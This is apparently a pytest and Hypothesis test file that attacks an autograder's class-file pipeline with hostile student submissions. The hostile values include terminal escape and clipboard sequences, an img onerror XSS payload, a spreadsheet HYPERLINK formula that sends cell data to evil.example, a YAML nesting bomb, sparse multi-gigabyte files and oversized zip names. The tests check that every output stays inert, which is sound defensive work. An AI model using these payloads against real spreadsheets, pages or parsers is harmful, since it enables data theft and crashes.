"""Issue 31's attacks on the class files, each checked from outside (the batch's exit status,
the files it writes, the points in them), then the same invariants over generated hostile
classes (Hypothesis): exit 0 and a row per learner, honest learners full marks, no control or
formula character of a learner's in any output, and no more than ``budget.LEARNER_CHARS``
characters of one learner's text in all of their outputs together.

Grading is :func:`hostile_class.stand_in_grade` (the real intake and scoring, no learner
process), so a class is graded in about a second.
"""
from __future__ import annotations

import csv
import io
import os
import re
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from hostile_class import EXERCISES, HONEST, export, hostile_code, stand_in_grade

from autograder.classroom import batch
from autograder.classroom.budget import LEARNER_CHARS
from autograder.spec import POINTS

FULL = sum(POINTS[e] for e in EXERCISES)
# What must never reach a file as a learner wrote it: C0 controls but a newline and a tab (and
# the \r of a CSV's own \r\n), DEL, C1 controls, the bidi controls.
RAW = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]|\r(?!\n)")
FORMULA = ("=", "+", "-", "@")
LIVE_HTML = re.compile(r"<(?:img|script|a|iframe|svg)\b", re.I)


def _run(tmp_path, monkeypatch, capsys, download, *options):
    monkeypatch.setattr(batch, "pipeline_grader", lambda user, time_limit, zygotes=0: stand_in_grade)
    out = tmp_path / "out"
    status = batch.main([str(download), "--out", str(out), "--jobs", "1", "--quiet", "--unconfined",
                         "-e", EXERCISES[0], "-e", EXERCISES[1], *options])
    return status, out, capsys.readouterr().err


def _grades(out):
    with open(out / "grades.csv", newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def _outputs(out: Path):
    """Every text file the batch wrote, by its path under OUT."""
    for p in sorted(out.rglob("*")):
        if p.is_file() and p.suffix != ".png" and p.name != ".seed":
            yield p.relative_to(out).as_posix(), p.read_text(encoding="utf-8", errors="surrogateescape")


def _clean(out: Path, err: str) -> None:
    """No raw control, no live HTML of a learner's, no cell a spreadsheet runs as a formula."""
    for name, text in [*_outputs(out), ("stderr", err)]:
        assert not RAW.search(text), (name, RAW.search(text).group())
        if name.endswith(".html"):
            assert not LIVE_HTML.search(text.replace("<a href=\"#", "")), name
        if name.endswith(".md"):
            assert not LIVE_HTML.search(text), name
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(text)):
                for cell in row:
                    if cell[:1] in FORMULA:
                        float(cell)  # a number ("-3") is the only cell that may start so


def _marked(out: Path, err: str, marker: str) -> int:
    """Characters of one learner's text (written in ``marker``) in everything the batch wrote
    for people to read: every file but the instructor's full reports, the grader's log and
    the feedback pages (each renders its .md), and the batch's own lines."""
    files = [t for n, t in _outputs(out) if not n.startswith("reports/") and n not in ("hashes.json",
                                                                                   batch.GRADER_ERRORS)
             and not n.endswith(".html")]
    return sum(t.count(marker) for t in [*files, err])


# ------------------------------------------------------------------------- the attacks, one by one

def test_a_folder_name_in_misnamed_files_reaches_summary_md_inert(tmp_path, monkeypatch, capsys):
    folder = "<img src=x onerror=alert(1)>\x1b]52;c;aGk=\x07\x1b[2J"
    download = export(tmp_path / "d", [
        {"folder": "submission_1", "people": [("Ada", "100", "a@x")], "files": {"attention.py": HONEST}},
        {"folder": "submission_2", "people": [("Mal", "200", "m@x")], "files": {f"{folder}/Attention.py": HONEST}}])
    status, out, err = _run(tmp_path, monkeypatch, capsys, download)
    assert status == 0, err
    summary = (out / "summary.md").read_text()
    line = next(x for x in summary.splitlines() if x.startswith("- Misnamed files"))
    rendered = re.sub(r"\\([^\w\s])", r"\1", line)  # Markdown's escapes read
    assert "\\x1b]52" in rendered and "&lt;img" in line  # shown, as characters
    _clean(out, err)


def test_a_name_that_is_a_formula_is_a_cell_in_canvas_csv(tmp_path, monkeypatch, capsys):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"100")'
    download = export(tmp_path / "d", [
        {"folder": "submission_1", "people": [(hostile, "@100", "a@x")], "files": {"attention.py": HONEST}}])
    status, out, err = _run(tmp_path, monkeypatch, capsys, download)
    assert status == 0, err
    rows = list(csv.reader(io.StringIO((out / "canvas.csv").read_text())))
    assert rows[2][:3] == ["'" + hostile, "", "'@100"] and float(rows[2][-1]) == FULL
    _clean(out, err)


def test_a_formula_name_from_the_export_is_escaped_where_canvas_shows_it(tmp_path):
    from autograder.classroom.write import lms
    from autograder.inert import LearnerText

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"100")'
    text = lms.canvas_csv([{"ids": {"Student": LearnerText(hostile, "name"),
                                          "SIS User ID": LearnerText("100", "sid")}, "score": 5.0}], "HW", 10)
    cells = list(csv.reader(io.StringIO(text)))[2]
    assert cells[0] == "'" + hostile and cells[2] == "100"
    with pytest.raises(TypeError):  # a plain str where learner text belongs
        lms.canvas_csv([{"ids": {"Student": hostile}, "score": 5.0}], "HW", 10)


def test_a_thousand_nested_folders_are_that_learners_row(tmp_path, monkeypatch, capsys):
    root = tmp_path / "class"
    (root / "ada").mkdir(parents=True)
    (root / "ada" / "attention.py").write_text(HONEST)
    deep = root / "mal"
    deep.mkdir()
    (deep / "attention.py").write_text(HONEST)
    fd = os.open(deep, os.O_RDONLY)
    try:  # 1,200 levels: deeper than a path the kernel takes whole, made a level at a time
        for _ in range(1200):
            os.mkdir("d", dir_fd=fd)
            inner = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = inner
    finally:
        os.close(fd)
    try:
        status, out, err = _run(tmp_path, monkeypatch, capsys, root, "--deadline", "2026-03-01T23:59Z")
    finally:
        _unnest(deep, 1200)  # pytest's own clean-up of tmp_path recurses, once per level
    assert status == 0, err
    grades = {r["learner"]: r for r in _grades(out)}
    assert float(grades["ada"]["final"]) == FULL and float(grades["mal"]["total"]) == FULL
    assert grades["mal"]["time_source"] == "folder change time"


def _unnest(top: Path, levels: int) -> None:
    fds = [os.open(top, os.O_RDONLY)]
    for _ in range(levels - 1):
        fds.append(os.open("d", os.O_RDONLY, dir_fd=fds[-1]))
    for fd in reversed(fds):
        os.rmdir("d", dir_fd=fd)
        os.close(fd)


@pytest.mark.parametrize("metadata", ["claims-2020", "brackets", "sparse"])
def test_a_learners_own_submission_metadata_is_never_read(tmp_path, monkeypatch, capsys, metadata):
    root = tmp_path / "class"
    for who in ("ada", "mal"):
        (root / who).mkdir(parents=True)
        (root / who / "attention.py").write_text(HONEST)
        os.utime(root / who / "attention.py", (1.9e9, 1.9e9))  # 2030: late, both
    meta = root / "mal" / "submission_metadata.json"
    if metadata == "claims-2020":
        meta.write_text('{"created_at": "2020-01-01T00:00:00Z"}')
    elif metadata == "brackets":
        meta.write_text("[" * 200_000)
    else:
        with open(meta, "wb") as f:
            f.truncate(1536 * 2**20)  # 1.5 GB, sparse: no disk used
    os.utime(meta, (1.9e9, 1.9e9))
    status, out, err = _run(tmp_path, monkeypatch, capsys, root, "--deadline", "2026-03-01T23:59Z",
                            "--late-cutoff", "1")
    assert status == 0, err
    grades = {r["learner"]: r for r in _grades(out)}
    # the same folders, the same time: both put there after the deadline, so neither is dated (a
    # folder's change time can show a hand-in on time, never late), and her file is read by no one
    assert grades["mal"]["status"] == grades["ada"]["status"] == "no trusted time"
    assert grades["mal"]["final"] == grades["ada"]["final"]
    assert grades["mal"]["submitted_at"] == grades["ada"]["submitted_at"]
    assert grades["mal"]["time_source"] == grades["ada"]["time_source"] == "folder change time"


def test_a_zip_of_long_names_makes_little_text(tmp_path, monkeypatch, capsys):
    root = tmp_path / "class"
    (root / "ada").mkdir(parents=True)
    (root / "ada" / "attention.py").write_text(HONEST)
    with zipfile.ZipFile(root / "mal.zip", "w", zipfile.ZIP_DEFLATED) as z:
        # the shallowest copy, under a 65,000-character folder: once named in every other copy's line
        z.writestr(f"{'x' * 65_000}/attention.py", HONEST)
        for i in range(490):
            z.writestr(f"c{i}/d/attention.py", HONEST)
    assert (root / "mal.zip").stat().st_size < 300_000
    status, out, err = _run(tmp_path, monkeypatch, capsys, root)
    assert status == 0, err
    grades = {r["learner"]: r for r in _grades(out)}
    assert float(grades["mal"]["total"]) == FULL  # its own attention.py is graded
    sizes = {n: len(t) for n, t in _outputs(out)}
    assert sizes["feedback/mal.md"] < 5000 and sizes["reports/mal.json"] < 60_000, sizes
    assert "1 file(s) of mal.zip under a path longer than 512 characters" in (out / "feedback" / "mal.md").read_text()


def test_ids_alike_but_for_a_space_are_both_graded_under_their_own_names(tmp_path, monkeypatch, capsys):
    download = export(tmp_path / "d", [
        {"folder": "submission_1", "people": [("Ada", "100_1", "a@x")], "files": {"attention.py": HONEST}},
        {"folder": "submission_2", "people": [("Mal", "100 1", "m@x")],
         "files": {"attention.py": hostile_code(message="boom")}}])
    status, out, err = _run(tmp_path, monkeypatch, capsys, download)
    assert status == 0, err
    grades = {r["learner"]: r for r in _grades(out)}
    assert float(grades["100_1"]["final"]) == FULL and float(grades["100 1"]["final"]) == 0
    feedback = sorted(p.name for p in (out / "feedback").glob("*.md"))
    assert len(feedback) == 2 and "100_1.md" in feedback
    assert "cannot be file names as they are" in err and "100 1 as 100_1-" in err
    again = _run(tmp_path, monkeypatch, capsys, download, "--force")  # stable: the same names again
    assert again[0] == 0 and sorted(p.name for p in (out / "feedback").glob("*.md")) == feedback


def test_a_sid_taken_from_another_learner_holds_both_and_writes_every_file(tmp_path, monkeypatch, capsys):
    # which of the two is 100's is the instructor's call (issue 43): both held, nothing graded into 100's row
    download = export(tmp_path / "d", [
        {"folder": "submission_1", "people": [("Ada", "100", "a@x")], "files": {"attention.py": HONEST}},
        {"folder": "submission_2", "people": [("Mal", "100", "m@x")], "files": {"attention.py": hostile_code()}}])
    roster = tmp_path / "roster.txt"
    roster.write_text("100\n")
    status, out, err = _run(tmp_path, monkeypatch, capsys, download, "--roster", str(roster))
    assert status == 3, err
    grades = {r["learner"]: r for r in _grades(out)}
    assert list(grades) == ["100"] and grades["100"]["status"] == "held"
    assert "submission_1 and submission_2 give the id 100" in err
    held = list(csv.DictReader(io.StringIO((out / "held.csv").read_text())))
    assert sorted(h["submission"] for h in held) == ["submission_1", "submission_2"]
    assert [r[-1] for r in csv.reader(io.StringIO((out / "canvas.csv").read_text()))][2:] == [""]  # blank, not 0


def test_the_feedback_holds_no_hidden_case_input_from_an_exception(tmp_path, monkeypatch, capsys):
    leak = "LEAK" + "abcdefghijklmnop" * 400  # a case's input, encoded as leak_inputs.py does
    download = export(tmp_path / "d", [
        {"folder": "submission_1", "people": [("Mal", "200", "m@x")],
         "files": {"attention.py": hostile_code(type_name="Leak" + "abcdefghijklmnop" * 4, message=leak)}}])
    status, out, err = _run(tmp_path, monkeypatch, capsys, download)
    assert status == 0, err
    feedback = (out / "feedback" / "200.md").read_text()
    assert "LEAK" not in feedback and "Leak" not in feedback and "abcdefghijklmnop" not in feedback
    assert "Raised an exception of its own class at attention.py, line 3 (in 3 of 3 failing cases)" in feedback
    assert "LEAK" in (out / "reports" / "200.json").read_text()  # the instructor's report keeps it


def test_every_writer_refuses_a_plain_str_where_learner_text_belongs(tmp_path):
    """The type, not a review, keeps raw learner text out: each writer of a learner's text takes
    it only as LearnerText (a plain str raises), and LearnerText has no plain str()."""
    from autograder.classroom.write import classfiles, feedback, lms, runs, summary
    from autograder.inert import LearnerText

    text = LearnerText("=x\x1b[2J", "test")
    with pytest.raises(TypeError):
        str(text)
    with pytest.raises(TypeError):
        f"{text}"
    report = {"max_score": 5.0, "exercises": [{"id": "softmax", "score": 1.0, "max_score": 5.0, "status": "partial"}]}
    row = {"id": "x", "submitted_as": "x", "report": report, "parts": {"softmax": 1.0}, "score": 1.0, "late": "",
           "adjusted": 0.0, "final": 1.0, "status": "graded", "submitted": "", "adjustments": [],
           "shown": text, "shown_as": text, "error": text}
    assert "'=x\\x1b[2J" in classfiles.grades_csv([row], {"x": report})
    for key in ("shown", "shown_as", "error"):
        with pytest.raises(TypeError):
            classfiles.grades_csv([dict(row, **{key: "=x"})], {"x": report})
    with pytest.raises(TypeError):
        lms.canvas_csv([{"ids": {"Student": "=x"}, "score": 1.0}], "HW", 5)
    with pytest.raises(TypeError):
        feedback.to_markdown("x", report, row, "HW")
    with pytest.raises(TypeError):
        feedback.to_html("# x", "HW", "x")
    stats = summary.summarize({"x": {"error": "refused", "score": 0, "max_score": 5, "exercises": []}})
    assert "refused" in summary.to_markdown(stats)
    stats.problems[summary.REFUSED] = [("x", "raw words")]
    with pytest.raises(TypeError):
        summary.to_markdown(stats)
    (tmp_path / "grades.csv").write_text("learner,final\nx,0\n")
    # the row's learner (escaped) is new to this history, and x left it: two changes
    assert runs.log_changes(tmp_path, [row], lambda message: None) == 2
    with pytest.raises(TypeError):
        runs.log_changes(tmp_path, [dict(row, shown="x")], lambda message: None)


# ------------------------------------------------------------------------- generated hostile classes

MARKERS = "жфщю"  # one per hostile learner: its text is counted by it
HOSTILE_BITS = ["\x1b[2J", "\x1b]52;c;aGk=\x07", "\r", "\x9b", "\u202e", "\u2066", "<img src=x onerror=a()>",
                "[x](http://e.example)", "|", "*", "`", "=cmd()", "+1", "-1", "@x", "\x00", "\t", "\n", " "]


@st.composite
def learner_text(draw, marker: str, most: int = 300, file_name: bool = False):
    bits = draw(st.lists(st.sampled_from(HOSTILE_BITS + [marker * 5]), min_size=1, max_size=12))
    text = draw(st.sampled_from(["=", "+", "-", "@", ""])) + marker + "".join(bits)
    text *= draw(st.sampled_from([1, 1, 20]))
    if file_name:  # what a folder's name can hold: no "/" or NUL, 255 bytes
        text = text.replace("/", "_").replace("\x00", "_").replace("\n", "_")
        while len(text.encode()) > 200:
            text = text[:-1]
        return text.strip() or marker
    return text[:most * 20]


@st.composite
def hostile_learner(draw, i: int):
    m = MARKERS[i]
    folder = draw(learner_text(m, file_name=True))
    depth = draw(st.sampled_from([0, 1, 40]))
    where = "/".join([folder] + ["d"] * depth)
    name = draw(st.sampled_from(["attention.py", "Attention.py", "attention (1).py"]))
    said = m.upper()  # the words of the learner's errors: never in a feedback file
    files = {f"{where}/{name}": hostile_code(kind=draw(st.sampled_from(["exception", "import", "timeout"])),
                                             type_name=draw(learner_text(said, 40)), message=draw(learner_text(said)),
                                             notes=[draw(learner_text(m))]),
             f"{draw(learner_text(m, file_name=True))}.txt": "x"}
    if draw(st.booleans()):  # a zip of long member names beside it
        data = io.BytesIO()
        with zipfile.ZipFile(data, "w") as z:
            for k in range(30):
                z.writestr(f"{m * 600}{k}/notes.txt", "x")
        files["extra.zip"] = data.getvalue()
    # beside the honest learner's 100_1: ids one file name apart (an id equal to another's once
    # stripped is the same submitter twice, which the export's reading refuses whole, by design)
    sid = draw(st.sampled_from(["100 1", "100\x1b1", m + "=1"])) if i == 0 else draw(learner_text(m, 60))
    return {"folder": f"submission_{i + 2}", "people": [(draw(learner_text(m)), sid, f"{m}{i}@x")],
            "files": files}


@settings(max_examples=6, derandomize=True, deadline=None, database=None, phases=[Phase.generate],
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                 HealthCheck.data_too_large])
@given(st.integers(1, 3).flatmap(lambda n: st.tuples(*(hostile_learner(i) for i in range(n)))))
def test_a_generated_hostile_class(tmp_path_factory, monkeypatch, capsys, hostile):
    tmp_path = tmp_path_factory.mktemp("class")
    honest = {"folder": "submission_1", "people": [("Ada", "100_1", "ada@x")], "files": {"attention.py": HONEST}}
    status, out, err = _run(tmp_path, monkeypatch, capsys, export(tmp_path / "d", [honest, *hostile]),
                            "--similarity", "--anonymize")
    assert status == 0, err
    assert (out / "similarity.csv").exists() and (out / "anonymous" / "summary.md").exists()
    grades = _grades(out)
    assert len(grades) == 1 + len(hostile)
    (ada,) = [r for r in grades if r["learner"] == "100_1"]
    assert float(ada["final"]) == FULL
    _clean(out, err)
    for i in range(len(hostile)):
        assert _marked(out, err, MARKERS[i]) + _marked(out, err, MARKERS[i].upper()) <= LEARNER_CHARS, MARKERS[i]
        for feedback in (out / "feedback").iterdir():  # a hidden case's inputs may be in those words
            assert MARKERS[i].upper() not in feedback.read_text(), feedback.name


@pytest.mark.parametrize("metadata", ["nested", "sparse"])
def test_an_export_metadata_built_to_crash_its_parser_is_one_line_and_nothing_written(tmp_path, monkeypatch, capsys,
                                                                                       metadata):
    download = export(tmp_path / "d", [
        {"folder": "submission_1", "people": [("Ada", "100", "a@x")], "files": {"attention.py": HONEST}}])
    yml = download / "assignment_8046601_export" / "submission_metadata.yml"
    if metadata == "nested":  # libyaml recurses once per level: the process parsing it crashes
        yml.write_text("submission_1: " + "[" * 100_000 + "]" * 100_000 + "\n")
    else:
        with open(yml, "wb") as f:
            f.truncate(1536 * 2**20)  # 1.5 GB, sparse
    status, out, err = _run(tmp_path, monkeypatch, capsys, download)
    assert status == 2 and len(err.strip().splitlines()) == 1 and not out.exists(), err
    assert "submission_metadata.yml" in err and ("crashed" in err or "more than the 256 MB" in err)
